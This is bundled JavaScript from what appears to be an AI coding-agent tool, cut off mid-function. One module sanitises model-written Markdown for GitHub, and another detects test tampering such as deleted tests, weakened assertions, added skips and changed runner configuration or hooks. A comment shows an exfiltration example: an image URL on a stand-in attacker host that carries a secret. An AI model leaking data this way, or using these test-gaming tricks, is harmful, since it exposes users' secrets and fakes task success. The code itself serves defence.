export const id = 827;
export const ids = [827];
export const modules = {

/***/ 4375:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ld: () => (/* binding */ modelPlainText),
/* harmony export */   ZW: () => (/* binding */ modelText),
/* harmony export */   ti: () => (/* binding */ inlineCode)
/* harmony export */ });
/**
 * Text the model wrote (its summary, its plan, its reason for stopping), made safe to post on GitHub. An injected
 * model can write anything, and GitHub acts on some Markdown by itself:
 * - `![x](https://attacker/p.png?d=SECRET)`: GitHub's image proxy fetches the URL as soon as anyone views the PR, so
 *   whatever the model put in it leaves without a click. Images are removed.
 * - links (`[x](url)`, reference links, autolinks, bare URLs) invite a click to the same place. They are removed; a
 *   bare URL stays readable as code, where GitHub does not link it.
 * - `Fixes #12` (close/closes/closed, fix/fixes/fixed, resolve/resolves/resolved, followed by #N, owner/repo#N or an
 *   issue URL) in a PR body or commit message closes that issue on merge; `@someone` pings people. Both are put in a
 *   code span, where GitHub detects neither. Only our own template's `Fixes #n` closes an issue.
 * HTML is escaped, so no tag (`<img>`, `<a>`, `<details>`) renders either.
 */
/** Closing keyword with its reference, as GitHub documents it (a colon after the keyword is allowed). */
const KEYWORD = String.raw `\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b:?`;
const REFERENCE = String.raw `(?:[\w.-]+\/[\w.-]+#\d+|#\d+|(?:https?:\/\/)?[^\s<>\x60]*\/(?:issues|pull)\/\d+)`;
const CLOSING = String.raw `${KEYWORD}(?:[ \t]+|[ \t]*\n[ \t]*)${REFERENCE}`;
/** What GFM autolinks without brackets: URLs with a scheme, `www.` hosts, e-mail addresses. */
const URL = String.raw `\b(?:https?|ftp|mailto|xmpp):[^\s<>\x60]+|\bwww\.[^\s<>\x60]+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+`;
/** `@user` and `@org/team`, as GitHub finds them (not inside a word, so e-mail addresses are not mentions). */
const MENTION = String.raw `(?<!\w)@[A-Za-z0-9][A-Za-z0-9-]*(?:\/[\w.-]+)?`;
const DANGEROUS = new RegExp(`${CLOSING}|${URL}|${MENTION}`, 'gi');
const IMAGE_INLINE = /!\[[^\]\n]*\]\([^)\n]*\)?/g;
const IMAGE_REFERENCE = /!\[[^\]\n]*\]\[[^\]\n]*\]/g;
const LINK_INLINE = /\[([^\]\n]*)\]\([^)\n]*\)?/g;
const LINK_REFERENCE = /\[([^\]\n]*)\]\[[^\]\n]*\]/g;
const LINK_DEFINITION = /^ {0,3}\[[^\]\n]+\]:.*$/gm;
function longestBacktickRun(text) {
    return Math.max(0, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));
}
/** Escapes HTML and breaks whatever link or image syntax survived the removal above (`](`, `![`). */
function plain(text) {
    return text
        .replace(/&/g, '&amp;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')
        .replace(/\]\(/g, ']\\(')
        .replace(/\]\[/g, ']\\[')
        .replace(/!\[/g, '!\\[');
}
/** Markdown for model-written text: no image, no link, no closing keyword, no mention, no HTML. */
function modelText(text) {
    const stripped = text
        .replace(/\r\n?/g, '\n')
        .replace(IMAGE_INLINE, '(image removed)')
        .replace(IMAGE_REFERENCE, '(image removed)')
        .replace(LINK_DEFINITION, '')
        .replace(LINK_INLINE, '$1')
        .replace(LINK_REFERENCE, '$1');
    // A code span closes only on a backtick run of its own length: one longer than any run in the text cannot be
    // closed, opened or swallowed by the text's own backticks.
    const fence = '`'.repeat(longestBacktickRun(stripped) + 1);
    let out = '';
    let last = 0;
    for (const m of stripped.matchAll(DANGEROUS)) {
        out += plain(stripped.slice(last, m.index));
        // A backtick or backslash right before the fence would change its length or escape it.
        if (/[`\\]$/.test(out))
            out += ' ';
        out += `${fence}${m[0]}${fence}`;
        last = m.index + m[0].length;
        if (stripped[last] === '`')
            out += ' ';
    }
    return out + plain(stripped.slice(last));
}
/**
 * A name GitHub supplies and its owner chose (a branch, a fork's `owner/name`, a file path) as inline code in
 * Markdown: a code span whose fence is longer than any backtick run in the name, so the name cannot close it and step
 * out into live Markdown (``x`@acme/team<br>`` would otherwise mention a team and break the line). Inside a code span
 * GitHub renders no HTML, link or mention. Line breaks and other controls become spaces: a blank line would end the
 * paragraph, and the span with it.
 */
function inlineCode(name) {
    const flat = name.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029]/g, ' ');
    const fence = '`'.repeat(longestBacktickRun(flat) + 1);
    // A span that starts or ends with a backtick needs a space inside its fence (CommonMark strips one on each side).
    const pad = /^`|`$/.test(flat) || /^ .* $/.test(flat) ? ' ' : '';
    return `${fence}${pad}${flat}${pad}${fence}`;
}
/**
 * The same protection for plain text that GitHub still reads for references (commit messages, where a closing
 * keyword closes the issue once the commit reaches the default branch): the keyword is separated from its reference
 * (GitHub needs them adjacent), and mentions go in backticks. Nothing renders there, so links and HTML stay as they are.
 */
function modelPlainText(text) {
    const fence = '`'.repeat(longestBacktickRun(text) + 1);
    return text
        .replace(new RegExp(`(${KEYWORD})(?:[ \\t]+|[ \\t]*\\n[ \\t]*)(${REFERENCE})`, 'gi'), '$1 issue $2')
        .replace(new RegExp(MENTION, 'g'), (m) => `${fence}${m}${fence}`);
}


/***/ }),

/***/ 9129:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  YA: () => (/* binding */ checkEditIntegrity),
  _D: () => (/* binding */ checkIntegrity),
  r5: () => (/* reexport */ deflakeFindings),
  xN: () => (/* binding */ deletedTests),
  MQ: () => (/* reexport */ isTestPath),
  Ex: () => (/* reexport */ langOf),
  Wd: () => (/* reexport */ reportedConfigFindings),
  xJ: () => (/* reexport */ reportedSkipFindings)
});

// UNUSED EXPORTS: reportedConfigFile

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(6760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
// EXTERNAL MODULE: ./src/verify/runners/index.ts + 16 modules
var runners = __webpack_require__(6550);
;// CONCATENATED MODULE: ./src/verify/integrity/source.ts
/**
 * Reading test code with patterns: which paths are tests, a file's language, its test cases (qualified and bare
 * names, bodies), its assertions and skip markers as the runner profiles define them. Shared by every finding kind.
 */


// ---------- which paths are tests ----------
const TEST_DIR = /(^|\/)(tests?|__tests__|spec|specs|testdata|test_data|__mocks__|__snapshots__)\//;
const TEST_FILE = [
    /^test_.*\.py$/,
    /_test\.py$/,
    /^conftest\.py$/,
    /_test\.go$/,
    /\.(test|spec)\.[cm]?[jt]sx?$/,
    /_(spec|test)\.rb$/,
    /(Test|Tests|IT)\.(java|kt|scala|cs|swift)$/,
    /_tests?\.(rs|exs|dart|cc|cpp|c)$/,
    /\.snap$/,
    /\.ambr$/,
];
const normalize = (p) => p.replace(/\\/g, '/').replace(/^\.\//, '');
/**
 * True for files that are tests or test data: they define what "passing" means. Every runner profile's layouts
 * (a root `test.js` for ava and tape, `__tests__/`, `*_test.go`, `tests/`, `test_*.py`, …) and the other languages'
 * usual names.
 */
function isTestPath(p) {
    const norm = normalize(p);
    const base = external_node_path_default().posix.basename(norm);
    return TEST_DIR.test(norm) || TEST_FILE.some((re) => re.test(base)) || runners/* PROFILES */.jI.some((r) => r.testFile(norm));
}
// ---------- languages ----------
function langOf(p) {
    const ext = external_node_path_default().posix.extname(p).toLowerCase();
    if (ext === '.py')
        return 'py';
    if (['.js', '.jsx', '.ts', '.tsx', '.mjs', '.cjs', '.mts', '.cts'].includes(ext))
        return 'js';
    if (ext === '.go')
        return 'go';
    if (ext === '.rs')
        return 'rs';
    if (['.java', '.kt', '.scala', '.cs'].includes(ext))
        return 'jvm';
    if (ext === '.rb')
        return 'rb';
    if (ext === '.php')
        return 'php';
    if (['.cc', '.cpp', '.cxx', '.c++'].includes(ext))
        return 'cpp';
    return null;
}
/** Commented-out code is deleted code: drop whole-line comments and block comments that open a line. */
function stripComments(text, lang) {
    if (lang === 'py' || lang === 'rb')
        return text
            .split('\n')
            .map((l) => (/^\s*#/.test(l) ? '' : l))
            .join('\n');
    return text
        .replace(/^\s*\/\*[\s\S]*?\*\//gm, (m) => m.replace(/[^\n]/g, ''))
        .split('\n')
        .map((l) => (/^\s*\/\//.test(l) || (lang === 'php' && /^\s*#(?!\[)/.test(l)) ? '' : l))
        .join('\n');
}
/** The profiles to read a file with: the configured runner's when known and of this language, else all of it. */
function profilesOf(lang, runner) {
    const named = runner ? runner.split('+').map(runners/* profileNamed */.JD) : [];
    const mine = named.filter((r) => !!r && r.lang === lang);
    return mine.length ? mine : (0,runners/* profilesFor */.Iw)(lang);
}
/** Skip markers of a language: every profile's, once per label. */
function skipMarkers(lang) {
    const seen = new Map();
    for (const r of (0,runners/* profilesFor */.Iw)(lang))
        for (const [label, re] of r.skips)
            if (!seen.has(label))
                seen.set(label, re);
    return [...seen];
}
/** One pattern for all the assertion forms of a language's runners (pytest's `assert` and unittest's `self.assert…`). */
function assertionPattern(lang) {
    const sources = [...new Set((0,runners/* profilesFor */.Iw)(lang).map((r) => r.assertions.source))];
    return new RegExp(sources.map((src) => `(?:${src})`).join('|'), 'g');
}
// ---------- scanning code ----------
/** Index just past the bracket that closes the one at `open`, skipping strings and comments; -1 if unclosed. */
function matchBracket(text, open, lang) {
    const pairs = { '(': ')', '[': ']', '{': '}' };
    const stack = [];
    for (let i = open; i < text.length; i++) {
        const ch = text[i];
        if (ch === '/' && text[i + 1] === '/' && lang !== 'py') {
            i = text.indexOf('\n', i);
            if (i < 0)
                return -1;
            continue;
        }
        if (ch === '#' && lang === 'py') {
            i = text.indexOf('\n', i);
            if (i < 0)
                return -1;
            continue;
        }
        if (ch === '/' && text[i + 1] === '*' && lang !== 'py') {
            i = text.indexOf('*/', i + 2);
            if (i < 0)
                return -1;
            i++;
            continue;
        }
        if (ch === '"' || ch === '`' || (ch === "'" && (lang !== 'rs' || /^'(\\.|[^\\'\n])'/.test(text.slice(i, i + 4))))) {
            let j = i + 1;
            while (j < text.length && text[j] !== ch) {
                if (text[j] === '\\')
                    j++;
                else if (text[j] === '\n' && ch !== '`' && lang !== 'py')
                    break;
                j++;
            }
            i = j;
            continue;
        }
        if (pairs[ch])
            stack.push(pairs[ch]);
        else if (ch === ')' || ch === ']' || ch === '}') {
            if (stack.pop() !== ch)
                return -1;
            if (!stack.length)
                return i + 1;
        }
    }
    return -1;
}
function pythonCases(text) {
    const lines = text.split('\n');
    const out = [];
    const classes = [];
    for (let i = 0; i < lines.length; i++) {
        const line = lines[i];
        if (!line.trim())
            continue;
        const indent = line.length - line.trimStart().length;
        while (classes.length && classes[classes.length - 1].indent >= indent)
            classes.pop();
        const cls = /^\s*class\s+(\w+)/.exec(line);
        if (cls) {
            classes.push({ indent, name: cls[1] });
            continue;
        }
        const def = /^\s*(?:async\s+)?def\s+(test\w*)\s*\(/.exec(line);
        if (!def)
            continue;
        let j = i + 1;
        while (j < lines.length && (!lines[j].trim() || lines[j].length - lines[j].trimStart().length > indent))
            j++;
        const bare = def[1];
        out.push({ name: [...classes.map((c) => c.name), bare].join('.'), bare, body: lines.slice(i, j).join('\n') });
    }
    return out;
}
const JS_CALL = /(?<![\w$.])(describe|suite|context|x?it|x?test|specify|fit|fdescribe|xdescribe)((?:\.\w+)*)\s*\(\s*(['"`])((?:\\.|(?!\3)[^\\])*)\3/g;
function jsCases(text) {
    const groups = [];
    const tests = [];
    for (const m of text.matchAll(JS_CALL)) {
        const open = text.indexOf('(', m.index + m[1].length + m[2].length);
        const end = matchBracket(text, open, 'js');
        const span = { from: m.index, to: end < 0 ? text.length : end, name: m[4] };
        if (/describe|suite|context/.test(m[1]))
            groups.push(span);
        else
            tests.push(span);
    }
    return tests.map((t) => {
        const path = groups.filter((g) => g.from < t.from && g.to >= t.to).map((g) => g.name);
        return { name: [...path, t.name].join(' > '), bare: t.name, body: text.slice(t.from, t.to) };
    });
}
function braceCases(text, lang, starts) {
    return starts.map(({ index, name }) => {
        const open = text.indexOf('{', index);
        const end = open < 0 ? -1 : matchBracket(text, open, lang);
        return { name, bare: name, body: text.slice(index, end < 0 ? text.length : end) };
    });
}
/** The lines from `start` to the one that closes it by indentation (Ruby's `end`), as one body. */
function indentedBody(lines, start) {
    const indent = lines[start].length - lines[start].trimStart().length;
    let j = start + 1;
    while (j < lines.length && (!lines[j].trim() || lines[j].length - lines[j].trimStart().length > indent))
        j++;
    return lines.slice(start, Math.min(j + 1, lines.length)).join('\n');
}
const RB_GROUP = /^\s*(?:RSpec\.)?(?:x|f)?(?:describe|context|feature)\s*\(?\s*(?:(['"])(.*?)\1|([\w:]+))/;
const RB_EXAMPLE = /^\s*(?:x|f)?(?:it|specify|example|scenario)\s*\(?\s*(['"])(.*?)\1/;
/**
 * RSpec examples (`describe X > it 'y'`, named as RSpec's full description: the groups and the example joined by
 * spaces) and minitest tests (`Class#test_x`), their bodies by indentation.
 */
function rubyCases(text) {
    const lines = text.split('\n');
    const out = [];
    const groups = [];
    for (let i = 0; i < lines.length; i++) {
        const line = lines[i];
        if (!line.trim())
            continue;
        const indent = line.length - line.trimStart().length;
        while (groups.length && groups[groups.length - 1].indent >= indent)
            groups.pop();
        const group = RB_GROUP.exec(line) ?? /^\s*class\s+([\w:]+)/.exec(line);
        if (group) {
            groups.push({ indent, name: group[2] ?? group[3] ?? group[1] });
            continue;
        }
        const example = RB_EXAMPLE.exec(line);
        const def = /^\s*def\s+(test_\w+[?!]?)/.exec(line);
        if (!example && !def)
            continue;
        const bare = example ? example[2] : def[1];
        const name = example
            ? [...groups.map((g) => g.name), bare].join(' ')
            : `${groups.length ? groups[groups.length - 1].name : ''}#${bare}`;
        out.push({ name, bare, body: indentedBody(lines, i) });
    }
    return out;
}
function testCases(text, lang) {
    if (lang === 'py')
        return pythonCases(text);
    if (lang === 'rb')
        return rubyCases(text);
    if (lang === 'php') {
        const starts = [...text.matchAll(/(?:(?:@test\b|#\[Test\])[\s\S]{0,300}?)?\bfunction\s+(\w+)\s*\(/g)]
            .filter((m) => /^test/.test(m[1]) || /@test\b|#\[Test\]/.test(m[0]))
            .map((m) => ({ index: m.index, name: m[1] }));
        return braceCases(text, lang, starts);
    }
    if (lang === 'cpp') {
        const starts = [
            ...text.matchAll(/^\s*(?:TEST|TEST_F|TEST_P|TYPED_TEST|TYPED_TEST_P)\s*\(\s*(\w+)\s*,\s*(\w+)\s*\)/gm),
        ].map((m) => ({ index: m.index, name: `${m[1]}.${m[2]}` }));
        return braceCases(text, lang, starts);
    }
    if (lang === 'js')
        return jsCases(text);
    if (lang === 'go') {
        const starts = [...text.matchAll(/^func\s+((?:Test|Benchmark|Fuzz|Example)\w*)\s*\(/gm)].map((m) => ({
            index: m.index,
            name: m[1],
        }));
        return braceCases(text, lang, starts);
    }
    if (lang === 'rs') {
        const starts = [
            ...text.matchAll(/#\[(?:[\w:]+::)?test\b[^\]]*\](?:\s*#\[[^\]]*\])*\s*(?:pub\s+)?(?:async\s+)?fn\s+(\w+)/g),
        ].map((m) => ({ index: m.index, name: m[1] }));
        return braceCases(text, lang, starts);
    }
    const starts = [
        ...text.matchAll(/(?:@(?:Test|ParameterizedTest|RepeatedTest)\b|\[(?:Fact|Theory|Test|TestMethod|TestCase)\b[^\]]*\])[\s\S]{0,300}?\b(?:void|fun|Task|def)\s+(\w+)\s*\(/g),
    ].map((m) => ({ index: m.index, name: m[1] }));
    return braceCases(text, lang, starts);
}
// ---------- small helpers ----------
function multiset(items) {
    const m = new Map();
    for (const i of items)
        m.set(i, (m.get(i) ?? 0) + 1);
    return m;
}
/** Items of `a` that `b` lacks, counting repeats. */
function minus(a, b) {
    const left = multiset(b);
    const out = [];
    for (const i of a) {
        const n = left.get(i) ?? 0;
        if (n > 0)
            left.set(i, n - 1);
        else
            out.push(i);
    }
    return out;
}
const source_short = (s, n = 120) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
/** Up to `n` items, quoted, and how many more. */
const list = (items, n = 5) => items
    .slice(0, n)
    .map((i) => `\`${source_short(i, 80)}\``)
    .join(', ') + (items.length > n ? ` and ${items.length - n} more` : '');

;// CONCATENATED MODULE: ./src/verify/integrity/assertions.ts

/** Each assertion as one statement, whitespace folded: `expect(x)\n  .toBe(21)` is one. */
function assertionsOf(body, lang) {
    const out = [];
    const re = assertionPattern(lang);
    let lastEnd = -1;
    for (const m of body.matchAll(re)) {
        if (m.index < lastEnd)
            continue;
        let end = m.index;
        // Run to the end of the statement: a newline (or `;`) outside brackets, not followed by a `.chain`.
        let depth = 0;
        // In Go's `if got := f(); got != want {`, the `;` is part of the condition.
        const semicolonEnds = !m[0].startsWith('if');
        for (; end < body.length; end++) {
            const ch = body[end];
            if ('([{'.includes(ch))
                depth++;
            else if (')]}'.includes(ch))
                depth = Math.max(0, depth - 1);
            else if (depth === 0 && ((ch === ';' && semicolonEnds) || ch === '\n')) {
                if (ch === '\n' && /^\s*\./.test(body.slice(end + 1, end + 200)))
                    continue;
                break;
            }
        }
        lastEnd = end;
        out.push(body.slice(m.index, end).replace(/\s+/g, ' ').trim());
    }
    return out;
}
/** Test cases kept under the same name that lost an assertion or changed an existing one. */
function assertionFindings(p, casesBefore, casesAfter, lang) {
    const findings = [];
    const byName = new Map(casesAfter.map((c) => [c.name, c]));
    for (const old of casesBefore) {
        const now = byName.get(old.name);
        if (!now)
            continue;
        const was = assertionsOf(old.body, lang);
        const is = assertionsOf(now.body, lang);
        if (is.length < was.length) {
            findings.push({
                path: p,
                kind: 'fewer-assertions',
                detail: `${p}: ${old.name} has fewer assertions (${was.length} → ${is.length}); removed: ${list(minus(was, is), 3)}`,
            });
            continue;
        }
        const changed = minus(was, is);
        if (changed.length) {
            findings.push({
                path: p,
                kind: 'changed-assertion',
                detail: `${p}: ${old.name} changed an existing assertion: ${list(changed, 2)} → ${list(minus(is, was), 2)}`,
            });
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./src/verify/integrity/cases.ts
/**
 * `deleted-test-file` and `deleted-test-case`: tests gone from the change set. A test deleted in one file and added in
 * another moved, and is kept, only where its runner collects the new path.
 */

/** Test cases gone from a file, and the bare names of those new in it. */
function caseChanges(casesBefore, casesAfter) {
    const afterNames = casesAfter.map((c) => c.name);
    const goneNames = new Set(minus(casesBefore.map((c) => c.name), afterNames));
    return {
        deleted: casesBefore.filter((c) => goneNames.has(c.name)),
        added: minus(afterNames, casesBefore.map((c) => c.name)).map((n) => casesAfter.find((c) => c.name === n).bare),
    };
}
/** Bare names of tests added where the runner collects them: a test deleted elsewhere under that name moved. */
const keptNames = (analyses, collectedAt) => new Set(analyses.filter(({ change }) => collectedAt(change.path)).flatMap((a) => a.added));
const collectedBy = (options) => (p) => {
    const lang = langOf(p);
    if (!lang)
        return true;
    return profilesOf(lang, options.runner).some((r) => r.collects(normalize(p)));
};
/** The tests a change set deletes (not moved to a path the runner collects): file and bare name. */
function goneTests(analyses, options) {
    const kept = keptNames(analyses, collectedBy(options));
    return analyses.flatMap((a) => a.deleted.filter((c) => !kept.has(c.bare)).map((c) => ({ path: a.change.path, bare: c.bare })));
}
/** The deletions of one file of a change set (`analyses`), moves to a collected path set apart. */
function deletionFinder(analyses, options) {
    // A test moved elsewhere is kept only where its runner still collects it (not under Go's testdata/, not in a
    // python module named outside test_*.py): a move anywhere else takes it out of the run.
    const collectedAt = collectedBy(options);
    const addedElsewhere = keptNames(analyses, collectedAt);
    const uncollected = new Map(analyses
        .filter(({ change }) => !collectedAt(change.path))
        .flatMap(({ change, added }) => added.map((name) => [name, change.path])));
    const movedTo = (gone) => {
        const where = [...new Set(gone.map((c) => uncollected.get(c.bare)).filter(Boolean))];
        return where.length ? ` (moved to ${list(where, 2)}, which the runner does not collect)` : '';
    };
    return (a) => {
        const { change } = a;
        const gone = a.deleted.filter((c) => !addedElsewhere.has(c.bare));
        if (a.deletedFile) {
            if (a.deleted.length === 0 || gone.length > 0) {
                const tests = gone.length
                    ? ` (${gone.length} test(s): ${list(gone.map((c) => c.name), 3)})${movedTo(gone)}`
                    : '';
                return [{ path: change.path, kind: 'deleted-test-file', detail: `test file ${change.path} deleted${tests}` }];
            }
            return [];
        }
        if (!gone.length)
            return [];
        const detail = `${change.path}: test(s) deleted: ${list(gone.map((c) => c.name))}${movedTo(gone)}`;
        return [{ path: change.path, kind: 'deleted-test-case', detail }];
    };
}

;// CONCATENATED MODULE: ./src/verify/integrity/config.ts
/**
 * `deselect-config` and `runner-config`: configuration that takes tests out of the run or changes how they are
 * judged. By file name and section (each profile's `config`), and by the runner's own word on which file it read
 * (pytest's `configfile:` header): a change to that file is a finding whatever its name, and a configuration file
 * the runner reads in the final run but did not read in the baseline is one too.
 */



const PYTEST_CONFIG = /^(pytest\.ini|\.pytest\.ini|pytest\.toml|\.pytest\.toml|tox\.ini|setup\.cfg|pyproject\.toml|conftest\.py)$/;
const PYTEST_SELECTING = /\b(addopts|testpaths|norecursedirs|python_files|python_classes|python_functions|collect_ignore(_glob)?|pytest_collection_modifyitems|pytest_ignore_collect)\b|--deselect\b|--ignore(-glob)?\b|(^|[\s'"])-(k|m)\b|-p\s*no:/;
const JS_CONFIG = /^(jest|vitest|vite|karma|ava|playwright)\.(config|workspace)\.[cm]?[jt]s(on)?$|^\.mocharc(\.[cm]?js|\.json|\.ya?ml)?$|^\.taprc$/;
const JS_SELECTING = /\b(testPathIgnorePatterns|modulePathIgnorePatterns|testMatch|testRegex|roots|testNamePattern|exclude|include|passWithNoTests|allowOnly|grep|fgrep|invert|ignore|spec|retry|retries|bail|projects|files|only|filter)\b/;
function addedLines(before, after) {
    const old = new Set((before ?? '').split('\n').map((l) => l.trim()));
    return after
        .split('\n')
        .map((l) => l.trim())
        .filter((l) => l && !old.has(l));
}
function makeTestRecipe(text) {
    const m = /^test\s*:[^\n]*\n((?:\t[^\n]*\n?)*)/m.exec(text);
    return m ? m[0] : null;
}
function packageJsonFindings(before, after) {
    let a;
    let b;
    try {
        a = JSON.parse(before);
        b = JSON.parse(after);
    }
    catch {
        return [];
    }
    const out = [];
    const sa = (a.scripts ?? {});
    const sb = (b.scripts ?? {});
    for (const key of ['test', 'pretest', 'posttest']) {
        if (JSON.stringify(sa[key]) !== JSON.stringify(sb[key]))
            out.push(`scripts.${key}: ${JSON.stringify(sa[key] ?? null)} → ${JSON.stringify(sb[key] ?? null)}`);
    }
    for (const key of ['jest', 'mocha', 'ava', 'vitest', 'tap']) {
        if (JSON.stringify(a[key]) !== JSON.stringify(b[key]))
            out.push(`the "${key}" configuration changed`);
    }
    return out;
}
function deselectFindings(change) {
    const { before, after } = change;
    if (after === null)
        return [];
    const base = external_node_path_default().posix.basename(change.path);
    const found = (detail) => [{ path: change.path, kind: 'deselect-config', detail }];
    if (PYTEST_CONFIG.test(base)) {
        const added = addedLines(before, after).filter((l) => PYTEST_SELECTING.test(l));
        if (added.length)
            return found(`${change.path}: test selection changed: ${list(added, 3)}`);
    }
    if (JS_CONFIG.test(base)) {
        const added = addedLines(before, after).filter((l) => JS_SELECTING.test(l));
        if (added.length)
            return found(`${change.path}: test selection changed: ${list(added, 3)}`);
    }
    if (base === 'package.json' && before !== null) {
        const out = packageJsonFindings(before, after);
        if (out.length)
            return found(`package.json: ${out.join('; ')}`);
    }
    if (base === 'Cargo.toml') {
        const added = addedLines(before, after).filter((l) => /^(test|harness|doctest)\s*=\s*false\b|^\[\[test\]\]/.test(l));
        if (added.length)
            return found(`Cargo.toml: test targets changed: ${list(added, 3)}`);
    }
    if (/^(GNUmakefile|Makefile|makefile)$/.test(base) &&
        before !== null &&
        makeTestRecipe(before) !== makeTestRecipe(after)) {
        return found(`${change.path}: the \`test\` target's recipe changed`);
    }
    return [];
}
const changedLines = (a, b) => {
    const before = new Set(a.split('\n').map((l) => l.trim()));
    const after = new Set(b.split('\n').map((l) => l.trim()));
    return [
        ...[...after].filter((l) => l && !before.has(l)).map((l) => `+ ${l}`),
        ...[...before].filter((l) => l && !after.has(l)).map((l) => `- ${l}`),
    ];
};
/** The runner's own configuration (a pyproject's [tool.pytest…], a jest config, a .mocharc): any change to it. */
function runnerConfigFindings(change) {
    const { path: p, before, after } = change;
    const norm = normalize(p);
    for (const r of runners/* PROFILES */.jI) {
        const was = before === null ? null : r.config(norm, before);
        const is = after === null ? null : r.config(norm, after);
        if (was === is || (was === null && is === null))
            continue;
        const lines = changedLines(was ?? '', is ?? '');
        if (!lines.length)
            continue;
        return [
            {
                path: p,
                kind: 'runner-config',
                detail: `${p}: ${r.name}'s configuration ${was === null ? 'added' : is === null ? 'removed' : 'changed'}: ${list(lines, 3)}`,
            },
        ];
    }
    return [];
}
/** Findings of one file's configuration: deselected tests, or else any change to the runner's configuration. */
function configFindings(change) {
    const deselect = deselectFindings(change);
    return deselect.length ? deselect : runnerConfigFindings(change);
}
/** pytest's header: `configfile: .pytest.toml` (pytest ≥ 6.1; older: `inifile:`), after `rootdir:`. */
const CONFIGFILE = /^(?:rootdir: .*?, )?(?:configfile|inifile): (\S.*?)\s*$/m;
/**
 * The configuration file the run says it read, relative to the workspace: pytest prints it relative to its rootdir,
 * which is the workspace or a folder in it; `cwd` strips an absolute path.
 */
function reportedConfigFile(run, cwd) {
    if (!/\bpytest\b/.test(run.runner) || !run.output)
        return null;
    const m = CONFIGFILE.exec(run.output.replace(/\r/g, ''));
    if (!m)
        return null;
    let file = m[1];
    if (cwd && file.startsWith(`${cwd}/`))
        file = file.slice(cwd.length + 1);
    return normalize(file);
}
/**
 * What the runner says it read decides what counts as its configuration:
 * - a file the final run read and the change edited is `runner-config`, whatever its name (unless the text checks
 *   already named it), since the guard could not read what it changed;
 * - a configuration file read in the final run and not in the baseline (a new `pytest.toml` that pytest now prefers
 *   to `pyproject.toml`) is `runner-config` too.
 */
function reportedConfigFindings(baseline, final, changes, already, cwd) {
    const now = reportedConfigFile(final, cwd);
    if (!now)
        return [];
    const was = baseline ? reportedConfigFile(baseline, cwd) : null;
    const findings = [];
    const edited = changes.find((c) => normalize(c.path) === now || now.endsWith(`/${normalize(c.path)}`));
    const named = already.some((f) => (f.kind === 'runner-config' || f.kind === 'deselect-config') &&
        normalize(f.path) === normalize(edited?.path ?? ''));
    if (edited && edited.before !== edited.after && !named) {
        findings.push({
            path: edited.path,
            kind: 'runner-config',
            detail: `${edited.path}: pytest reads its configuration from this file (configfile: ${now}), and the change ${edited.before === null ? 'adds' : edited.after === null ? 'removes' : 'edits'} it: ${list(changedLines(edited.before ?? '', edited.after ?? ''), 3)}`,
        });
    }
    if (baseline && was !== now && !edited) {
        findings.push({
            path: now,
            kind: 'runner-config',
            detail: `pytest read its configuration from ${now} in the final run, ${was ? `from ${was}` : 'from no file'} in the baseline`,
        });
    }
    return findings;
}

;// CONCATENATED MODULE: ./src/verify/integrity/hooks.ts
/** `runner-hook`: code a change adds that can rewrite a test's outcome (each profile's `hooks`, in its `hookFile`s). */


/** Hook code a change adds (counted, so moving an existing hook is not a finding). */
function hookFindings(change) {
    const { path: p, before, after } = change;
    if (after === null)
        return [];
    const norm = normalize(p);
    const lang = langOf(norm);
    const code = (text) => (text === null ? '' : lang ? stripComments(text, lang) : text);
    const was = code(before);
    const is = code(after);
    const seen = new Set();
    const gained = [];
    for (const r of runners/* PROFILES */.jI) {
        if (!r.hookFile(norm))
            continue;
        for (const [label, re] of r.hooks) {
            if (seen.has(label))
                continue;
            seen.add(label);
            const g = new RegExp(re.source, re.flags.includes('g') ? re.flags : `${re.flags}g`);
            const n = (text) => [...text.matchAll(g)].length;
            if (n(is) > n(was))
                gained.push(label);
        }
    }
    return gained.length ? [{ path: p, kind: 'runner-hook', detail: `${p}: adds ${gained.join('; ')}` }] : [];
}

;// CONCATENATED MODULE: ./src/verify/integrity/skips.ts

function countMarkers(text, lang) {
    const counts = new Map();
    for (const [label, re] of skipMarkers(lang))
        counts.set(label, [...text.matchAll(new RegExp(re.source, 'g'))].length);
    return counts;
}
/** The skip markers of the language's runners that the file gained, as one finding. */
function skipFindings(p, beforeCode, afterCode, lang) {
    const markersBefore = countMarkers(beforeCode, lang);
    const gained = [...countMarkers(afterCode, lang)]
        .filter(([label, n]) => n > (markersBefore.get(label) ?? 0))
        .map(([label, n]) => `${label} (${markersBefore.get(label) ?? 0} → ${n})`);
    return gained.length ? [{ path: p, kind: 'added-skip', detail: `${p}: added ${gained.join(', ')}` }] : [];
}
/**
 * Skips reported by the runner itself, before and after: a skip no pattern sees (`getattr(pytest.mark, "sk" + "ip")`,
 * a skip decided in a fixture or a helper) still shows in the final run. Only when both runs were read by the same
 * runner in the same unit.
 * - Where both runs name their skipped tests and the baseline names every test it ran (cargo): per test id, only
 *   tests that ran on both sides: a test that ran in the baseline and is skipped now. A test the baseline never
 *   reached (cargo's doc-tests after a failing binary) is no finding.
 * - Otherwise by count: the final run skipped more than the baseline (a new test added as skipped is still a skip).
 */
function reportedSkipFindings(baseline, final) {
    const b = baseline?.counts;
    const f = final.counts;
    if (!baseline ||
        !b ||
        !f ||
        baseline.runner !== final.runner ||
        (baseline.unit ?? 'tests') !== (final.unit ?? 'tests'))
        return [];
    if (baseline.skippedIds && final.skippedIds && baseline.passingIds) {
        const ran = new Set([...baseline.passingIds, ...baseline.failingIds].map((id) => id.trim()));
        const was = new Set(baseline.skippedIds.map((id) => id.trim()));
        const now = final.skippedIds.map((id) => id.trim()).filter((id) => ran.has(id) && !was.has(id));
        if (!now.length)
            return [];
        return [
            {
                path: '(test run)',
                kind: 'added-skip',
                detail: `${final.runner} skips ${now.length} test(s) in the final run that ran in the baseline: ${list(now)}`,
            },
        ];
    }
    if (f.skipped <= b.skipped)
        return [];
    const unit = final.unit === 'packages' ? 'packages' : 'tests';
    return [
        {
